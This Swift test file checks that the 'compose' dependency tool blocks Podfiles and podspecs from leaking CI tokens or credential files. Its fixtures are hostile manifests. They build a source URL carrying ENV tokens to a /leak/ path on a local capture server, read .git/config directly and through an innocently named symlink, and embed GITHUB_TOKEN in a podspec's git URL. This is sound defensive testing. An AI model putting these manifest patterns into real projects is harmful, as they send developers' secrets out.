import ComposeTestSupport
import Foundation
import Testing

/// No secret of the environment or of a credential file leaves through a Podfile or a podspec: the
/// real `compose` against a capture server that records every request, with the CI job's tokens in
/// its environment.
@Suite("Secrets a Podfile or podspec could send away")
struct PodfileSecretsTests {
    static let secrets: [String: String?] = [
        "COMPOSE_CDN_TOKEN": "cdn-secret-123", "GITHUB_TOKEN": "gh-secret-456", "COMPOSE_NETWORK_TIMEOUT": "5",
        "COMPOSE_ALLOW_ENV": nil, "SPECS_URL": nil,
    ]

    /// A project folder holding `podfile` as its Podfile, and a compose home beside it.
    static func project(_ label: String, podfile: String) throws -> (TemporaryDirectory, [String: String?]) {
        let folder = try TemporaryDirectory(label)
        try podfile.write(toFile: folder.path + "/Podfile", atomically: true, encoding: .utf8)
        var environment = secrets
        environment["COMPOSE_HOME"] = folder.url.appendingPathComponent("home").path
        return (folder, environment)
    }

    @Test func theReproductionSendsNoSecretAnywhere() async throws {
        let server = try CaptureServer(.askForCredentials)
        defer { server.stop() }
        let (folder, environment) = try PodfileSecretsTests.project(
            "secrets-env",
            podfile: """
                source "http://127.0.0.1:\(server.port)/leak/#{ENV['COMPOSE_CDN_TOKEN']}/#{ENV['GITHUB_TOKEN']}/"
                platform :ios, '15.0'
                target 'App' do
                  pod 'Pay'
                end
                """)
        defer { folder.remove() }
        let run = try await runCompose(["resolve", "--project", folder.path], environment: environment)
        #expect(run.code == 1, "\(run.stderr)")
        #expect(
            run.stderr.contains(
                "Podfile:1:8: The value given to `source` is built from ENV['COMPOSE_CDN_TOKEN'] and ENV['GITHUB_TOKEN']"
            ),
            "\(run.stderr)")
        #expect(
            run.stderr.contains(
                "allow them with --allow-env COMPOSE_CDN_TOKEN --allow-env GITHUB_TOKEN or COMPOSE_ALLOW_ENV=COMPOSE_CDN_TOKEN,GITHUB_TOKEN, if they are not secrets"
            ), "\(run.stderr)")
        #expect(server.requests.isEmpty, "\(server.requests)")
        for output in [run.stdout, run.stderr] {
            #expect(!output.contains("secret-"), "\(output)")
        }
        #expect(!FileManager.default.fileExists(atPath: folder.path + "/Compose.lock"))
    }

    @Test func aCredentialFileOfTheProjectIsNeverRead() async throws {
        let server = try CaptureServer(.askForCredentials)
        defer { server.stop() }
        for (index, file) in [".git/config", "notes.txt"].enumerated() {
            let (folder, environment) = try PodfileSecretsTests.project(
                "secrets-git-config",
                podfile: """
                    header = File.read('\(file)').lines.last.strip
                    source "http://127.0.0.1:\(server.port)/leak/#{header}/"
                    target 'App' do
                      pod 'Pay'
                    end
                    """)
            defer { folder.remove() }
            try FileManager.default.createDirectory(atPath: folder.path + "/.git", withIntermediateDirectories: true)
            try
                "[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA==\n"
                .write(toFile: folder.path + "/.git/config", atomically: true, encoding: .utf8)
            // A link with an innocent name is followed to what it names, and refused the same.
            try FileManager.default.createSymbolicLink(
                atPath: folder.path + "/notes.txt", withDestinationPath: ".git/config")
            let run = try await runCompose(["resolve", "--project", folder.path], environment: environment)
            #expect(run.code == 1, "\(run.stderr)")
            #expect(
                run.stderr.contains(
                    "Podfile:1:15: Compose does not let a Podfile or podspec read `\(file)` (it may hold credentials)"),
                "\(index): \(run.stderr)")
            #expect(!run.stderr.contains("Z2hzX3NlY3JldA"))
        }
        #expect(server.requests.isEmpty, "\(server.requests)")
    }

    @Test func aSourceChosenByAnAllowedVariableStillResolves() async throws {
        let (folder, base) = try PodfileSecretsTests.project(
            "secrets-allowed",
            podfile: """
                source ENV['SPECS_URL']
                platform :ios, ENV['CI'] ? '15.0' : '16.0'
                target 'App' do
                  pod 'Analytics'
                end
                """)
        defer { folder.remove() }
        var environment = base
        environment["SPECS_URL"] = repositoryRoot.appendingPathComponent("spec-repo-fixture").path
        environment["CI"] = "1"

        // Not allowed: refused where it would become the source, naming the variable and the fix.
        let refused = try await runCompose(["resolve", "--project", folder.path], environment: environment)
        #expect(refused.code == 1)
        #expect(
            refused.stderr.contains(
                "Podfile:1:11: The value given to `source` is built from ENV['SPECS_URL']; compose sends no environment variable to a server, a file path or the lock unless it is allowed by name: allow it with --allow-env SPECS_URL or COMPOSE_ALLOW_ENV=SPECS_URL, if it is not a secret."
            ), "\(refused.stderr)")

        // Allowed by the option (CI, only in a condition, needs no allowing).
        let allowed = try await runCompose(
            ["resolve", "--project", folder.path, "--allow-env", "SPECS_URL"], environment: environment)
        #expect(allowed.code == 0, "\(allowed.stderr)")
        #expect(allowed.stdout.contains("+ Analytics 1.1.1"), "\(allowed.stdout)")
        try FileManager.default.removeItem(atPath: folder.path + "/Compose.lock")

        // Allowed by the environment of the job.
        environment["COMPOSE_ALLOW_ENV"] = "OTHER,SPECS_URL"
        let byEnvironment = try await runCompose(["resolve", "--project", folder.path], environment: environment)
        #expect(byEnvironment.code == 0, "\(byEnvironment.stderr)")

        let usage = try await runCompose(["resolve", "--project", folder.path, "--allow-env", "A=B"])
        #expect(usage.code == 64)
        #expect(usage.stderr.contains("--allow-env takes an environment variable's name"), "\(usage.stderr)")
    }

    @Test func specConvertHandsAPodspecNoSecret() async throws {
        let folder = try TemporaryDirectory("secrets-spec-convert")
        defer { folder.remove() }
        let podspec = folder.url.appendingPathComponent("Pay.podspec")
        try """
        Pod::Spec.new do |s|
          s.name = 'Pay'
          s.version = '1.0.0'
          s.summary = ENV.to_h.key?('GITHUB_TOKEN') || ENV.to_h.key?('COMPOSE_CDN_TOKEN') ? 'sees a token' : 'sees no token'
          s.homepage = 'https://example.com/Pay'
          s.license = 'MIT'
          s.authors = { 'T' => 't@example.com' }
          s.source = { :git => "https://git.example.com/#{ENV['GITHUB_TOKEN']}Pay.git", :tag => s.version.to_s }
          s.ios.deployment_target = '15.0'
        end
        """.write(to: podspec, atomically: true, encoding: .utf8)
        let run = try await runCompose(["spec", "convert", podspec.path], environment: PodfileSecretsTests.secrets)
        #expect(run.code == 1, "\(run.stdout)")
        #expect(run.stderr.contains("Pay.podspec:8:"), "\(run.stderr)")
        #expect(run.stderr.contains("is built from ENV['GITHUB_TOKEN']"), "\(run.stderr)")
        #expect(!run.stdout.contains("secret-") && !run.stderr.contains("secret-"))

        // Without the source built from it, the spec converts, and its Ruby saw no token.
        let text = try String(contentsOf: podspec, encoding: .utf8).replacingOccurrences(
            of: "#{ENV['GITHUB_TOKEN']}", with: "")
        try text.write(to: podspec, atomically: true, encoding: .utf8)
        let converted = try await runCompose(
            ["spec", "convert", podspec.path], environment: PodfileSecretsTests.secrets)
        #expect(converted.code == 0, "\(converted.stderr)")
        #expect(converted.stdout.contains("\"summary\": \"sees no token\""), "\(converted.stdout)")
        #expect(!converted.stdout.contains("secret-"))

        // Allowed by name, the podspec sees it.
        let allowed = try await runCompose(
            ["spec", "convert", "--allow-env", "GITHUB_TOKEN", podspec.path], environment: PodfileSecretsTests.secrets)
        #expect(allowed.stdout.contains("\"summary\": \"sees a token\""), "\(allowed.stdout)")
    }
}
